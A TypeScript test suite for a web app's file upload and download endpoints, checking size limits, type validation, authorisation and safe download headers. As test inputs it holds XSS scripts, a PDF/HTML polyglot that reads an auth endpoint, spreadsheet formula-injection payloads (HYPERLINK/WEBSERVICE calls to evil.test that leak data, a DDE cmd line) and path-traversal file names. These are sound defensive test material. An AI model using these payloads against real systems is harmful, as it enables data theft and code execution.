import { env } from "cloudflare:test";
import { eq } from "drizzle-orm";
import { describe, expect, it } from "vitest";
import { files, insightRequests } from "~db/schema";
import { UPLOAD_FORM, uploadOf, uploadRefusedMessage } from "~/server/files/files.server";
import { readForm } from "~/http/http.server";
import { call, db, create, payload } from "../helpers";
import {
  compoundFile,
  concat,
  docx,
  jpeg,
  openDocument,
  pdf,
  png,
  PNG_SIGNATURE,
  text,
  xlsx,
} from "../../support/sample-files";
import { signedInClient, signedInManager } from "../../factories";

const UPLOAD = "/api/file-handling/upload-files";
const TOO_LARGE = "This file is too large. Maximum file size is 16 MB.";
const REJECTED =
  "File was not added. Accepted file types: .doc, .docx, .pdf, .xlsx, .csv, .odt, .ods, .odg, .png, & .jpg";

const PDF_BYTES = pdf();
const PNG_BYTES = png();

/** One real, well-formed file of every accepted type. */
const VALID_CORPUS: { name: string; bytes: Uint8Array<ArrayBuffer>; contentType: string }[] = [
  { name: "statement.pdf", bytes: pdf(), contentType: "application/pdf" },
  { name: "logo.png", bytes: png({ width: 16, height: 16 }), contentType: "image/png" },
  { name: "storefront.jpg", bytes: jpeg(), contentType: "image/jpeg" },
  { name: "receipt.JPEG", bytes: jpeg({ comment: "scanned" }), contentType: "image/jpeg" },
  { name: "revenue.csv", bytes: text("month,revenue\n2026-01,-1200.50\n"), contentType: "text/csv; charset=utf-8" },
  { name: "letter.doc", bytes: compoundFile("WordDocument"), contentType: "application/msword" },
  { name: "budget.xls", bytes: compoundFile("Workbook"), contentType: "application/vnd.ms-excel" },
  {
    name: "suppliers.docx",
    bytes: docx(),
    contentType: "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
  },
  {
    name: "forecast.xlsx",
    bytes: xlsx(),
    contentType: "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
  },
  { name: "notes.odt", bytes: openDocument("odt"), contentType: "application/vnd.oasis.opendocument.text" },
  { name: "stock.ods", bytes: openDocument("ods"), contentType: "application/vnd.oasis.opendocument.spreadsheet" },
  { name: "floorplan.odg", bytes: openDocument("odg"), contentType: "application/vnd.oasis.opendocument.graphics" },
];

/** A PDF whose header is followed by an HTML page: a PDF reader and a browser both open it. */
function pdfHtmlPolyglot(): Uint8Array<ArrayBuffer> {
  const base = pdf();
  const headerEnd = base.indexOf(0x0a) + 1;
  return concat(
    base.subarray(0, headerEnd),
    text(
      "%<!doctype html><html><body><script>fetch('/api/client/auth').then(r=>r.text()).then(alert)</script></body></html>\n",
    ),
    base.subarray(headerEnd),
  );
}

type Part = { name: string; bytes: BlobPart; type?: string };

function form(parts: Part[], purpose?: string): FormData {
  const body = new FormData();
  for (const part of parts) body.append("files", new File([part.bytes], part.name, { type: part.type ?? "" }));
  if (purpose !== undefined) body.append("purpose", purpose);
  return body;
}

const upload = (body: FormData | string, cookie?: string | null, headers?: HeadersInit) =>
  call(UPLOAD, { method: "POST", body, cookie, headers });

async function rowsOf(businessId: string) {
  return db().select().from(files).where(eq(files.businessId, businessId));
}

async function objectCount(businessId: string) {
  const listed = await env.FILES.list({ prefix: `biz/${businessId}/` });
  return listed.objects.length;
}

async function sha256(bytes: Uint8Array<ArrayBuffer>) {
  const digest = await crypto.subtle.digest("SHA-256", bytes);
  return [...new Uint8Array(digest)].map((b) => b.toString(16).padStart(2, "0")).join("");
}

async function expectNothingStored(businessId: string) {
  expect(await rowsOf(businessId)).toHaveLength(0);
  expect(await objectCount(businessId)).toBe(0);
}

describe("POST /api/file-handling/upload-files", () => {
  it("stores a pdf and a png in R2 with their rows and answers the stored names", async () => {
    const { user, business, token } = await signedInClient();
    const response = await upload(
      form(
        [
          { name: "../../Q3 report.pdf", bytes: PDF_BYTES, type: "text/html" },
          { name: "logo.PNG", bytes: PNG_BYTES },
        ],
        "insight_request",
      ),
      token,
    );
    expect(response.status).toBe(201);
    const body = (await response.json()) as {
      msg: string;
      files: { _id: string; fileName: string; originalName: string; size: number; contentType: string }[];
    };
    expect(body.msg).toBe("Your files have been added!");
    expect(body.files).toHaveLength(2);
    const [pdf, png] = body.files;
    expect(pdf.fileName).toMatch(/^[0-9a-f-]{36}\.pdf$/);
    expect(pdf).toMatchObject({
      originalName: "Q3 report.pdf",
      size: PDF_BYTES.length,
      contentType: "application/pdf",
    });
    expect(png.fileName).toMatch(/^[0-9a-f-]{36}\.png$/);
    expect(png).toMatchObject({ originalName: "logo.PNG", size: PNG_BYTES.length, contentType: "image/png" });

    const stored = await env.FILES.get(`biz/${business.id}/${pdf.fileName}`);
    expect(stored).not.toBeNull();
    expect(new Uint8Array(await stored!.arrayBuffer())).toEqual(PDF_BYTES);
    // The server's content type, never the client's.
    expect(stored!.httpMetadata?.contentType).toBe("application/pdf");
    expect(stored!.customMetadata).toEqual({ originalName: "Q3 report.pdf" });
    const storedPng = await env.FILES.get(`biz/${business.id}/${png.fileName}`);
    expect(new Uint8Array(await storedPng!.arrayBuffer())).toEqual(PNG_BYTES);

    const rows = await rowsOf(business.id);
    expect(rows).toHaveLength(2);
    const pdfRow = rows.find((row) => row.id === pdf._id)!;
    expect(pdfRow).toMatchObject({
      uploadedByUserId: user.id,
      r2Key: `biz/${business.id}/${pdf.fileName}`,
      originalName: "Q3 report.pdf",
      contentType: "application/pdf",
      sizeBytes: PDF_BYTES.length,
      sha256: await sha256(PDF_BYTES),
      purpose: "insight_request",
    });
    expect(rows.find((row) => row.id === png._id)!.purpose).toBe("insight_request");
  });

  it("says 'Your file has been added!' for one file, purpose other by default", async () => {
    const { business, token } = await signedInClient();
    const response = await upload(form([{ name: "numbers.csv", bytes: "month,revenue\n2026-01,1200\n" }]), token);
    expect(response.status).toBe(201);
    const body = (await response.json()) as { msg: string; files: { contentType: string }[] };
    expect(body.msg).toBe("Your file has been added!");
    expect(body.files[0].contentType).toBe("text/csv; charset=utf-8");
    const rows = await rowsOf(business.id);
    expect(rows).toHaveLength(1);
    expect(rows[0].purpose).toBe("other");
  });

  it("refuses a file over 16,000,000 bytes with the too-large text and stores nothing", async () => {
    const { business, token } = await signedInClient();
    const big = new Uint8Array(16_000_001);
    big.set(PDF_BYTES);
    const response = await upload(form([{ name: "big.pdf", bytes: big }]), token);
    expect(response.status).toBe(400);
    expect(await response.json()).toEqual({ msg: TOO_LARGE });
    await expectNothingStored(business.id);
  });

  it("refuses a declared body over the request limit before reading it", async () => {
    const declared = (length: number) =>
      new Request(`https://partwise.test${UPLOAD}`, {
        method: "POST",
        headers: { "Content-Type": "multipart/form-data; boundary=x", "Content-Length": String(length) },
        body: "--x--\r\n",
      });
    // What the upload route reads, and the 400 it answers for a refused body.
    const readUpload = async (request: Request) => {
      const body = await readForm(request, UPLOAD_FORM);
      return body.ok ? uploadOf(body.form) : { ok: false, status: 400, msg: uploadRefusedMessage(body.status) };
    };
    const tooLarge = declared(10 * 16_000_000 + 65_536 + 1);
    expect(await readUpload(tooLarge)).toEqual({ ok: false, status: 400, msg: TOO_LARGE });
    expect(tooLarge.bodyUsed).toBe(false);
    // At the limit the body is read (here an empty form: no files).
    expect(await readUpload(declared(10 * 16_000_000 + 65_536))).toEqual({ files: [], purpose: null });
  });

  it("refuses content that is not what the extension says", async () => {
    const { business, token } = await signedInClient();
    const cases: Part[] = [
      { name: "invoice.pdf", bytes: "MZ\x90\x00\x03\x00\x00\x00\x04\x00" }, // a renamed executable
      { name: "statement.pdf", bytes: "<!doctype html><html><script>alert(1)</script></html>" },
      { name: "logo.svg", bytes: '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>' },
      { name: "logo.png", bytes: '<svg xmlns="http://www.w3.org/2000/svg"/>' },
      { name: "data.csv", bytes: "<html><body>hi</body></html>" },
      { name: "tool.exe", bytes: "MZ\x90\x00" },
      { name: "README", bytes: "hello" },
      // Right magic bytes, wrong file: each would pass a first-bytes check.
      { name: "invoice.pdf", bytes: pdfHtmlPolyglot() },
      {
        name: "chart.png",
        bytes: concat(PNG_SIGNATURE, text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')),
      },
      { name: "proposal.docx", bytes: text("PK\x03\x04<html><body><script>alert(1)</script></body></html>") },
      {
        name: "photo.jpg",
        bytes: concat(new Uint8Array([0xff, 0xd8, 0xff, 0xe0]), text("<html><script>alert(1)</script></html>")),
      },
      { name: "sheet.xlsx", bytes: docx() },
      { name: "letter.doc", bytes: compoundFile("Workbook") },
      { name: "notes.odt", bytes: openDocument("ods") },
      { name: "cut.png", bytes: PNG_BYTES.slice(0, PNG_BYTES.length - 12) },
      { name: "cut.pdf", bytes: PDF_BYTES.slice(0, PDF_BYTES.length - 20) },
    ];
    for (const part of cases) {
      const response = await upload(form([part]), token);
      expect(response.status, part.name).toBe(400);
      expect(await response.json(), part.name).toEqual({ msg: REJECTED });
    }
    await expectNothingStored(business.id);
  });

  it("accepts one real file of every type with the server's content type", async () => {
    const { business, token } = await signedInClient();
    const response = await upload(form(VALID_CORPUS.slice(0, 10).map(({ name, bytes }) => ({ name, bytes }))), token);
    expect(response.status).toBe(201);
    const rest = await upload(form(VALID_CORPUS.slice(10).map(({ name, bytes }) => ({ name, bytes }))), token);
    expect(rest.status).toBe(201);
    const stored = [
      ...((await response.json()) as { files: { originalName: string; contentType: string; size: number }[] }).files,
      ...((await rest.json()) as { files: { originalName: string; contentType: string; size: number }[] }).files,
    ];
    expect(stored).toEqual(
      VALID_CORPUS.map(({ name, bytes, contentType }) =>
        expect.objectContaining({ originalName: name, contentType, size: bytes.length }),
      ),
    );
    expect(await objectCount(business.id)).toBe(VALID_CORPUS.length);
  });

  it("stores nothing when any file of the upload is refused", async () => {
    const { business, token } = await signedInClient();
    const response = await upload(
      form([
        { name: "good.pdf", bytes: PDF_BYTES },
        { name: "good.png", bytes: PNG_BYTES },
        { name: "bad.pdf", bytes: "MZ\x90\x00" },
      ]),
      token,
    );
    expect(response.status).toBe(400);
    expect(await response.json()).toEqual({ msg: REJECTED });
    await expectNothingStored(business.id);
  });

  it("answers 400 without files, with too many files, a bad purpose or a non-multipart body", async () => {
    const { business, token } = await signedInClient();
    const empty = new FormData();
    empty.append("purpose", "other");
    let response = await upload(empty, token);
    expect(response.status).toBe(400);
    expect(await response.json()).toEqual({ msg: "Choose a file to upload." });

    response = await upload(
      form(Array.from({ length: 11 }, (_, i) => ({ name: `f${i}.pdf`, bytes: PDF_BYTES }))),
      token,
    );
    expect(response.status).toBe(400);
    expect(await response.json()).toEqual({ msg: "Upload at most 10 files at a time." });

    response = await upload(form([{ name: "a.pdf", bytes: PDF_BYTES }], "everything"), token);
    expect(response.status).toBe(400);
    expect(await response.json()).toEqual({ msg: "The file purpose is not valid." });

    response = await call(UPLOAD, { method: "POST", cookie: token, json: { files: ["a.pdf"] } });
    expect(response.status).toBe(400);
    expect(await response.json()).toEqual({ msg: "Choose a file to upload." });

    response = await upload("--x\r\nbroken", token, { "Content-Type": "multipart/form-data; boundary=zzz" });
    expect(response.status).toBe(400);
    expect(await response.json()).toEqual({ msg: "The upload could not be read." });
    await expectNothingStored(business.id);
  });

  it("answers 401 without a session and 403 for staff", async () => {
    let response = await upload(form([{ name: "a.pdf", bytes: PDF_BYTES }]));
    expect(response.status).toBe(401);
    expect(await response.json()).toEqual({ msg: "You are not signed in." });

    const manager = await signedInManager();
    response = await upload(form([{ name: "a.pdf", bytes: PDF_BYTES }]), manager.token);
    expect(response.status).toBe(403);
    expect(await response.json()).toEqual({ msg: "Only business accounts can upload files." });
    const rows = await db().select().from(files).where(eq(files.uploadedByUserId, manager.user.id));
    expect(rows).toHaveLength(0);
  });
});

describe("GET /api/file-handling/get-file/{fileName}", () => {
  async function uploadedPdf() {
    const owner = await signedInClient();
    const response = await upload(form([{ name: "Résumé (final).pdf", bytes: PDF_BYTES }]), owner.token);
    expect(response.status).toBe(201);
    const body = (await response.json()) as { files: { fileName: string }[] };
    return { owner, fileName: body.files[0].fileName };
  }

  it("gives the owner the bytes as a download with safe headers", async () => {
    const { owner, fileName } = await uploadedPdf();
    const response = await call(`/api/file-handling/get-file/${fileName}`, { cookie: owner.token });
    expect(response.status).toBe(200);
    expect(new Uint8Array(await response.arrayBuffer())).toEqual(PDF_BYTES);
    expect(response.headers.get("Content-Type")).toBe("application/pdf");
    expect(response.headers.get("Content-Disposition")).toBe(
      `attachment; filename="R_sum_ (final).pdf"; filename*=UTF-8''R%C3%A9sum%C3%A9%20%28final%29.pdf`,
    );
    expect(response.headers.get("X-Content-Type-Options")).toBe("nosniff");
    expect(response.headers.get("Cache-Control")).toBe("private, no-store");
  });

  it("serves a CSV with its formula cells made inert, keeping the stored original", async () => {
    const owner = await signedInClient();
    const original =
      'name,link,amount\r\nDana,=HYPERLINK("https://evil.test/?d="&A1,"Click"),-1200.50\r\n"@SUM(1+1)*cmd|\' /C calc\'!A0",+1 555 0100,3\r\n';
    const response = await upload(form([{ name: "contacts.csv", bytes: original }]), owner.token);
    expect(response.status).toBe(201);
    const { files: uploaded } = (await response.json()) as { files: { fileName: string }[] };

    const download = await call(`/api/file-handling/get-file/${uploaded[0].fileName}`, { cookie: owner.token });
    expect(download.status).toBe(200);
    expect(await download.text()).toBe(
      'name,link,amount\r\nDana,\'=HYPERLINK("https://evil.test/?d="&A1,"Click"),-1200.50\r\n"\'@SUM(1+1)*cmd|\' /C calc\'!A0",+1 555 0100,3\r\n',
    );
    expect(download.headers.get("Content-Type")).toBe("text/csv; charset=utf-8");
    expect(download.headers.get("Content-Disposition")).toBe(
      `attachment; filename="contacts.csv"; filename*=UTF-8''contacts.csv`,
    );
    expect(download.headers.get("X-Content-Type-Options")).toBe("nosniff");

    const stored = await env.FILES.get(`biz/${owner.business.id}/${uploaded[0].fileName}`);
    expect(await stored!.text()).toBe(original);
    const [row] = await rowsOf(owner.business.id);
    expect(row.sha256).toBe(await sha256(text(original)));
  });

  it("serves the assigned manager the same inert CSV", async () => {
    const owner = await signedInClient();
    const uploaded = await upload(
      form([{ name: "links.csv", bytes: 'site\n=WEBSERVICE("https://evil.test")\n' }]),
      owner.token,
    );
    const fileName = ((await uploaded.json()) as { files: { fileName: string }[] }).files[0].fileName;
    const created = await create(owner.token, payload(owner.business.id, { files: [fileName] }));
    const requestId = ((await created.json()) as { insightRequest: { _id: string } }).insightRequest._id;
    const manager = await signedInManager();
    await db()
      .update(insightRequests)
      .set({ assignedManagerId: manager.user.id })
      .where(eq(insightRequests.id, requestId));

    const download = await call(`/api/file-handling/get-file/${fileName}`, { cookie: manager.token });
    expect(download.status).toBe(200);
    expect(await download.text()).toBe(`site\n'=WEBSERVICE("https://evil.test")\n`);
    expect(download.headers.get("Content-Disposition")).toBe(
      `attachment; filename="links.csv"; filename*=UTF-8''links.csv`,
    );
    expect(download.headers.get("X-Content-Type-Options")).toBe("nosniff");
  });

  it("answers another business, a missing file and a malformed name with the same 404", async () => {
    const { fileName } = await uploadedPdf();
    const other = await signedInClient();
    for (const name of [fileName, `${crypto.randomUUID()}.pdf`, "report.pdf", "..%2F..%2Fsecret.pdf", `${fileName}x`]) {
      const response = await call(`/api/file-handling/get-file/${name}`, { cookie: other.token });
      expect(response.status, name).toBe(404);
      expect(await response.json(), name).toEqual({ msg: "File not found." });
    }
    const manager = await signedInManager();
    const staff = await call(`/api/file-handling/get-file/${fileName}`, { cookie: manager.token });
    expect(staff.status).toBe(404);
  });

  it("answers 401 without a session", async () => {
    const { fileName } = await uploadedPdf();
    const response = await call(`/api/file-handling/get-file/${fileName}`);
    expect(response.status).toBe(401);
  });
});
